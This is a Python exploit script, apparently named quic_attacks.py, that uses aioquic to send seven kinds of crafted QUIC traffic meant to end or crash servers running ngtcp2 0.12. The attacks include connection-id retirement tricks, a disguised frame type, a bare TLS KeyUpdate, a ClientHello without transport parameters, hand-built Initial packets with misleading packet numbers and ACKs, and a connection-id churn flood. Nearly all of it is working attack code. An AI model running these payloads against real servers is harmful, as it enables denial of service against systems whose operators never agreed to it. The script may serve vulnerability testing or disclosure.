"""Does to a QUIC server what ended processes that used ngtcp2 0.12. Written on aioquic.

usage: quic_attacks.py URL CA-FILE ATTACK

retirement     a client that has finished the handshake has connection ids retired, and gives one out again that is
               retired already
hidden         the same behind a frame of a type that there is none of, which ngtcp2 takes for STREAM
key-update     it sends a KeyUpdate message of TLS
no-parameters  a ClientHello without transport parameters
old-ack        a first packet with number 1, then one with number 0 that acknowledges the answer
decoded-ack    the same, with one in between whose number, which ngtcp2 forgets for an error, makes 0 look like 256

unacknowledged a client that has its connection ids replaced again and again, and acknowledges nothing, for five seconds

Prints how the server ends the connection, such as "error_code=10", or "sent" when nothing has to end.
"""

import asyncio
import os
import socket
import sys
from urllib.parse import urlsplit

from aioquic.asyncio import QuicConnectionProtocol, connect
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.crypto import CryptoPair
from aioquic.quic.events import ConnectionTerminated

PADDING, PING, ACK, CRYPTO, NEW_CONNECTION_ID = 0x00, 0x01, 0x02, 0x06, 0x18
VERSION_1 = 1


def retire(builder, frames=((5, 5), (3, 0), (3, 0))):
    """NEW_CONNECTION_ID frames with these sequence numbers and retire-prior-tos."""
    for sequence, prior in frames:
        frame = builder.start_frame(NEW_CONNECTION_ID, capacity=64)
        frame.push_uint_var(sequence)
        frame.push_uint_var(prior)
        frame.push_uint8(8)
        frame.push_bytes(os.urandom(8))
        frame.push_bytes(os.urandom(16))


def hide_and_retire(builder):
    frame = builder.start_frame(0x2A, capacity=8)
    frame.push_bytes(bytes([0, 0]))  # stream 0, no data
    retire(builder)


def update_key(builder):
    frame = builder.start_frame(CRYPTO, capacity=16)
    frame.push_bytes(bytes([0, 5, 0x18, 0, 0, 1, 0]))  # offset, length, key_update(24), update_not_requested


FRAMES = {"retirement": retire, "hidden": hide_and_retire, "key-update": update_key}


async def as_client(url, authority, attack):
    ended = asyncio.get_running_loop().create_future()

    class Client(QuicConnectionProtocol):
        def quic_event_received(self, event):
            if isinstance(event, ConnectionTerminated) and not ended.done():
                ended.set_result(event)

    if attack == "no-parameters":
        initialize = QuicConnection._initialize

        def without_parameters(self, *arguments):
            initialize(self, *arguments)
            self.tls.handshake_extensions = []

        QuicConnection._initialize = without_parameters
    configuration = QuicConfiguration(
        is_client=True, alpn_protocols=["rtun/1"], server_name=url.hostname, idle_timeout=10
    )
    configuration.load_verify_locations(authority)
    client = connect(
        url.hostname,
        url.port,
        configuration=configuration,
        create_protocol=Client,
        wait_connected=attack != "no-parameters",
    )
    async with client as client:
        if attack in FRAMES:
            quic = client._quic
            left = [FRAMES[attack]]
            quic._write_new_connection_id_frame = lambda builder, connection_id: left and left.pop()(builder)
            for identity in quic._host_cids:
                identity.was_sent = False
        if attack == "unacknowledged":
            quic = client._quic
            quic._write_ack_frame = lambda *arguments, **words: None
            for _ in range(500):
                quic.change_connection_id()
                client.transmit()
                await asyncio.sleep(0.01)
        client.transmit()
        try:
            event = await asyncio.wait_for(ended, 3)
            print(f"error_code={event.error_code}")
        except asyncio.TimeoutError:
            print("sent")


def varint(value):
    return (value | 0x4000).to_bytes(2, "big")


def initial(destination, source, number, frames):
    """A client's Initial packet of 1200 bytes."""
    keys = CryptoPair()
    keys.setup_initial(cid=destination, is_client=True, version=VERSION_1)
    length = 1 if number < 256 else 2
    head = bytes([0xC0 | length - 1]) + VERSION_1.to_bytes(4, "big")
    for identity in destination, source:
        head += bytes([len(identity)]) + identity
    head += b"\0"  # no token
    payload = frames.ljust(1200 - len(head) - 2 - length - 16, bytes([PADDING]))
    head += varint(length + len(payload) + 16) + number.to_bytes(length, "big")
    return keys.encrypt_packet(head, payload, number)


def old_acknowledgement(url, decoded=False):
    where = socket.getaddrinfo(url.hostname, url.port, type=socket.SOCK_DGRAM)[0]
    destination, source = os.urandom(8), os.urandom(8)
    packets = [
        # The beginning of a ClientHello of 512 bytes.
        (1, bytes([CRYPTO, 0, 4, 1, 0, 2, 0])),
        (0, bytes([ACK, 0, 0, 0, 0, PING])),
    ]
    if decoded:
        packets.insert(1, (256, bytes([0x1E])))
    with socket.socket(where[0], socket.SOCK_DGRAM) as client:
        client.connect(where[4])
        client.settimeout(5)
        for number, frames in packets:
            client.send(initial(destination, source, number, frames))
            if number == 1:
                client.recv(2048)  # what the last one acknowledges
    print("sent")


url, attack = urlsplit(sys.argv[1]), sys.argv[3]
if attack == "old-ack":
    old_acknowledgement(url)
elif attack == "decoded-ack":
    old_acknowledgement(url, decoded=True)
else:
    asyncio.run(as_client(url, sys.argv[2], attack))
